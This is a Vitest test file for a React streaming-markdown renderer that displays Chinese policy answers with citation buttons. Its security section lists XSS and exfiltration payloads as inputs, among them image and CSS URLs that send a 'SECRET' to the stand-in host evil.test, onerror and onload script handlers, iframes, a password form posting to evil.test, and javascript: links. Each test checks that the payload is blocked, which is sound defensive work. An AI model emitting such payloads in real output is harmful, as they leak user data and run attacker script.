// @vitest-environment happy-dom
import { act, Profiler } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { renderToString } from 'react-dom/server';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { storyAnswer } from '../../testing/storyAnswer';
import type { CitationSource } from '../Citation';
import * as inline from './renderInline';
import { StreamingMarkdown, type StreamingMarkdownProps } from './StreamingMarkdown';

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

let root: Root;
let box: HTMLElement;
beforeEach(() => {
  box = document.body.appendChild(document.createElement('div'));
  root = createRoot(box);
});
afterEach(() => {
  act(() => root.unmount());
  document.body.replaceChildren();
  vi.restoreAllMocks();
});
const show = (text: string, props: Omit<StreamingMarkdownProps, 'text'> = {}) => {
  act(() => root.render(<StreamingMarkdown text={text} {...props} />));
  return box;
};
const source = (id: string): CitationSource => ({
  id,
  label: id,
  title: '实施细则',
  from: '云科规〔2026〕5号',
  place: '第七条',
});

describe('Chinese', () => {
  it.each([
    ['**申报截止时间：**2026年', '申报截止时间：'],
    ['按**“专精特新”**认定', '“专精特新”'],
    ['**（含）**以下', '（含）'],
  ])('%s is bold', (text, bold) => {
    expect(show(text).querySelector('strong')?.textContent).toBe(bold);
    expect(box.textContent).not.toContain('*');
  });

  it('3~5年，10%~20% is no deletion', () => {
    expect(show('期限3~5年，比例10%~20%').querySelector('del')).toBeNull();
  });
});

describe('security: payloads that other renderers let through', () => {
  const leak = 'http://evil.test/p.png?leak=SECRET';
  it.each([
    ['image', `![x](${leak})`],
    ['image in a link', `[![x](${leak})](${leak})`],
    ['image by reference', `![x][1]\n\n[1]: ${leak}`],
    ['protocol-relative image', '![x](//evil.test/p.png)'],
    ['backslash image', '![x](/\\evil.test/p.png)'],
    ['raw image', `<img src="${leak}" onerror="alert(1)">`],
    ['CSS url()', `<div style="background:url(${leak})">x</div>`],
    ['style element', `<style>body{background:url(${leak})}</style>`],
    [
      'form with password',
      '<form action="http://evil.test"><input type="password" name="p"><button>登录</button></form>',
    ],
    ['script', '<script>alert(1)</script>'],
    ['frame', '<iframe src="http://evil.test" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['svg', '<svg onload="alert(1)"><use href="http://evil.test#x"/></svg>'],
    ['html in a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
    ['html in a heading', '# <img src=x onerror=alert(1)>'],
    ['entities', '&lt;img src=x onerror=alert(1)&gt;'],
  ])('%s', (_, payload) => {
    for (const isStreaming of [false, true]) {
      show(payload, { isStreaming });
      expect(
        box.querySelector('img, form, input, script, style, iframe, object, embed, use, [onerror], [onload]'),
      ).toBeNull();
      expect(box.querySelector('[style*="url"]')).toBeNull();
    }
  });

  it('no request at any moment of a stream', () => {
    const text = `见![图](${leak})与<img src="${leak}">，[![图](${leak})](${leak})`;
    for (let end = 0; end <= text.length; end++) {
      show(text.slice(0, end), { isStreaming: true });
      expect(box.querySelector('img, [style*="url"]')).toBeNull();
    }
  }, 60_000);

  it('a blocked image says so, with its words', () => {
    expect(show(`![财政补贴图](${leak})`).textContent).toBe('外部图片已拦截：财政补贴图');
    expect(show('![图](/api/file/7)').querySelector('img')?.getAttribute('src')).toBe('/api/file/7');
  });

  it.each(['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'data:text/html,x', 'vbscript:x'])(
    'no link to %s',
    (address) => {
      expect(show(`[点这里](<${address}>)`).querySelector('a')).toBeNull();
      expect(box.textContent).toBe('点这里');
    },
  );

  it('a link opens a new tab, tells nothing of where it came from, and shows its host', () => {
    const link = show('见[国务院](https://www.gov.cn@evil.test/x)').querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(box.textContent).toContain('evil.test');
  });

  it('a link that is not complete has no address', () => {
    expect(show('见[国务院](https://evil.te', { isStreaming: true }).querySelector('a')).toBeNull();
    expect(box.textContent).toBe('见国务院');
  });
});

describe('citations', () => {
  it('are numbers of known sources; unknown markers are left out, years stay', () => {
    const renderCitation = (found: CitationSource) => <b>{`#${found.label}`}</b>;
    show('计算[^1]，上限〔2〕，另见[^9]，云科规〔2026〕5号', { citations: [source('1'), source('2')], renderCitation });
    expect(box.textContent).toBe('计算#1，上限#2，另见，云科规〔2026〕5号');
  });

  it('are buttons that say where they lead', () => {
    const button = show('计算[^1]', { citations: [source('1')] }).querySelector('button');
    expect(button?.getAttribute('aria-label')).toBe('引用1：云科规〔2026〕5号第七条');
  });

  it('of one claim: five are shown, of more the first three and how many there are', () => {
    const ids = ['1', '2', '3', '4', '5', '6'];
    const citations = ids.map(source);
    const names = (text: string) =>
      [...show(text, { citations }).querySelectorAll('button')].map((button) => button.textContent);
    const marks = (from: readonly string[]) => from.map((id) => `[^${id}]`).join('、');
    expect(names(`计算${marks(ids.slice(0, 5))}[^9]。`)).toEqual(['1', '2', '3', '4', '5']);
    expect(names(`计算${marks(ids)}[^9]。`)).toEqual(['1', '2', '3', '等6处']);
    expect(box.textContent).toBe('计算1、2、3等6处。');
    act(() => [...box.querySelectorAll('button')].at(-1)?.click());
    expect([...box.querySelectorAll('button')].map((button) => button.textContent)).toEqual([...ids, '收起']);
    expect(document.activeElement?.textContent).toBe('4');
    expect(names('甲[^1][^2][^3]，乙[^4][^5][^6]')).toEqual(ids);
  });

  it('are not looked for in code', () => {
    expect(show('`a[^1]`', { citations: [source('1')] }).querySelector('button')).toBeNull();
  });
});

describe('cost', () => {
  it('what is settled is rendered 0 times again', () => {
    const rendered = vi.spyOn(inline, 'renderInline');
    const text = storyAnswer(2400);
    const settled = text.lastIndexOf('\n\n', 1500);
    show(text.slice(0, settled + 3), { isStreaming: true });
    const before = new Set(rendered.mock.calls.map(([nodes]) => nodes));
    const last = [...before].slice(-8);
    for (const node of last) before.delete(node);
    rendered.mockClear();
    for (let end = settled + 3; end <= text.length; end += 40) show(text.slice(0, end), { isStreaming: true });
    const again = rendered.mock.calls.filter(([nodes]) => before.has(nodes));
    expect(rendered.mock.calls.length).toBeGreaterThan(30);
    expect(again).toHaveLength(0);
  }, 60_000);

  it('a number that is there is not drawn again because another source came', () => {
    const drawn: string[] = [];
    const Drawn = ({ id }: { id: string }) => {
      drawn.push(id);
      return id;
    };
    const renderCitation = ({ id }: CitationSource) => <Drawn id={id} />;
    const first = source('1');
    show('甲[^1]\n\n乙[^2]', { citations: [first], renderCitation, isStreaming: true });
    show('甲[^1]\n\n乙[^2]', { citations: [first, source('2')], renderCitation, isStreaming: true });
    expect(drawn).toEqual(['1', '2']);
  });

  it('nothing is rendered for the same text', () => {
    const commits = vi.fn();
    const citations = [source('1')];
    const render = () =>
      act(() =>
        root.render(
          <Profiler id="answer" onRender={commits}>
            <StreamingMarkdown text="甲[^1]\n\n乙" citations={citations} />
          </Profiler>,
        ),
      );
    render();
    const rendered = vi.spyOn(inline, 'renderInline');
    render();
    expect(rendered).not.toHaveBeenCalled();
  });
});

it('renders on a server', () => {
  expect(renderToString(<StreamingMarkdown text={storyAnswer(500)} citations={[source('1')]} isStreaming />)).toContain(
    '<table',
  );
});
